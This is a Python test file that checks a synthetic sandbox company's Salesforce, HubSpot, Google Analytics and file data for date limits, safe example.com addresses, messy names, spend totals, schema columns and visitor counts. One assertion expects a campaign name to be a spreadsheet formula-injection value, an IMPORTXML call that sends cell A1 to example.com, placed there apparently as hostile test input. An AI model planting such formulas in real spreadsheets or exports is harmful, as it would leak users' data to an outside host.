from __future__ import annotations

import json
import re
from collections import Counter, defaultdict
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal

from connectors.schema import TABLES, Column, Type
from sandbox.company import CAMPAIGN_WORDS, Company
from tests.sandbox.company_story import UNTIL, Row

PLANNED = {
    "Contract_End__c",  # ends of running contracts
    "hs_recurring_billing_end_date",
    "EndDateTime",  # of the last meeting, minutes later
    "hs_meeting_end_time",
}
OPEN_ONLY = {"CloseDate", "closedate"}  # forecasts of open deals


def moments(row: Row) -> Iterator[tuple[str, str]]:
    for name, value in row.items():
        if name in ("_history", "_spend_items"):
            for entry in value if isinstance(value, list) else (one for entries in value.values() for one in entries):
                yield from moments(entry)
        elif isinstance(value, str) and re.match(r"\d{4}-\d\d-\d\d(T|$)", value):
            yield name, value


def test_nothing_is_dated_after_the_last_day(company: Company) -> None:
    """
    Only contract ends and the forecasts of open deals lie in the future; there are some of both.
    """
    open_deals = {row["Id"] for row in company.salesforce["Opportunity"] if not row["IsClosed"]}
    last = (datetime.combine(UNTIL, datetime.min.time(), UTC) + timedelta(hours=18, minutes=1)).isoformat()[:19]
    future: Counter[str] = Counter()
    for records in (company.salesforce, company.hubspot, company.google, company.files):
        for table, rows in records.items():
            for row in rows:
                is_open = (
                    row.get("IsClosed") is False
                    or row.get("hs_is_closed") == "false"
                    or row.get("OpportunityId") in open_deals
                )
                for name, value in moments(row):
                    bound = last[: len(value)] if len(value) == 10 else last
                    if value[:19] > bound and table != "targets":
                        future[name] += 1
                        assert name in PLANNED or (name in OPEN_ONLY and is_open), (table, name, value)
    assert future["Contract_End__c"] > 10
    assert future["CloseDate"] > 5


def test_no_address_can_reach_anybody(company: Company) -> None:
    """
    All e-mails and domains end in example.com, example.org or example.net.
    """
    addresses = [row["Email"] for name in ("Lead", "Contact", "User") for row in company.salesforce[name]]
    addresses += [row["email"] for name in ("contacts", "owners") for row in company.hubspot[name]]
    addresses += [row["domain"] for row in company.hubspot["companies"] if row["domain"]]
    addresses += [row["Website"] for row in company.salesforce["Account"] if row["Website"]]

    assert [one for one in addresses if not re.search(r"\bexample\.(com|org|net)$", one.lower())] == []


def test_names_are_as_people_write_them(company: Company) -> None:
    """
    There are quotes, a line break, an emoji and a formula among the names, and no NUL anywhere.
    """
    names = " | ".join(row["Name"] for row in company.salesforce["Account"])
    names += " | ".join(row["name"] for row in company.hubspot["companies"])
    campaigns = {row["Name"] for row in company.salesforce["Campaign"]}

    assert all(mark in names for mark in ('"', "\n", "🚀", "'"))
    assert '=IMPORTXML("https://example.com/?"&A1)' in campaigns
    assert "\\u0000" not in json.dumps([company.salesforce, company.hubspot])


def test_no_euro_is_told_twice(company: Company) -> None:
    """
    No campaign stands in both CRMs, spend items add up to their campaign, files tell media of channels without any.
    """
    sales = {row["Name"] for row in company.salesforce["Campaign"]}
    marketing = {row["hs_name"] for row in company.hubspot["campaigns"]}
    paid = {CAMPAIGN_WORDS[row["Type"]] for row in company.salesforce["Campaign"]}
    paid |= {CAMPAIGN_WORDS[row["hs_notes"]] for row in company.hubspot["campaigns"]}
    media = {row["channel"] for row in company.files["costs"] if row["kind"] == "media"}

    assert not sales & marketing
    assert media
    assert not media & paid
    for row in company.hubspot["campaigns"]:
        spent = sum(Decimal(str(item["amount"])) for item in row["_spend_items"])
        assert spent == Decimal(row["hs_spend_items_sum_amount"]) > 0


def test_files_have_the_columns_of_the_schema(company: Company) -> None:
    """
    Every column is one that a file may carry, every word one of those allowed, and no two rows are equal.
    """
    for table, rows in company.files.items():
        columns = {column.name: column for column in TABLES[table].given}
        if "email_key" in columns:
            columns["email"] = Column("email", Type.TEXT)  # given in its place
        assert len({tuple(row.items()) for row in rows}) == len(rows) > 0
        for row in rows:
            assert set(row) <= set(columns)
            assert all(not columns[n].values or row[n] is None or row[n] in columns[n].values for n in row)


def test_visitors_of_a_month_are_fewer_than_of_its_days(company: Company) -> None:
    """
    People of a month lie between the busiest day's and the days' sum, all channels' between the largest and their sum.
    """
    daily: Counter[tuple[str, str]] = Counter()
    busiest: Counter[tuple[str, str]] = Counter()
    for row in company.google["web_traffic"]:
        key = row["date"][:7].replace("-", ""), row["sessionDefaultChannelGroup"]
        daily[key] += row["users"]
        busiest[key] = max(busiest[key], row["users"])
        assert row["engagedSessions"] <= row["sessions"]
        assert row["newUsers"] <= row["users"] <= row["sessions"]
    channels: defaultdict[str, list[int]] = defaultdict(list)
    for row in company.google["web_users_month"]:
        key = row["yearMonth"], row["sessionDefaultChannelGroup"]
        assert busiest[key] <= row["totalUsers"] <= daily[key]
        channels[row["yearMonth"]].append(row["totalUsers"])

    totals = {row["yearMonth"]: row["totalUsers"] for row in company.google["web_users_month_total"]}
    assert len(totals) == 24
    assert all(max(users) <= totals[month] <= sum(users) for month, users in channels.items())
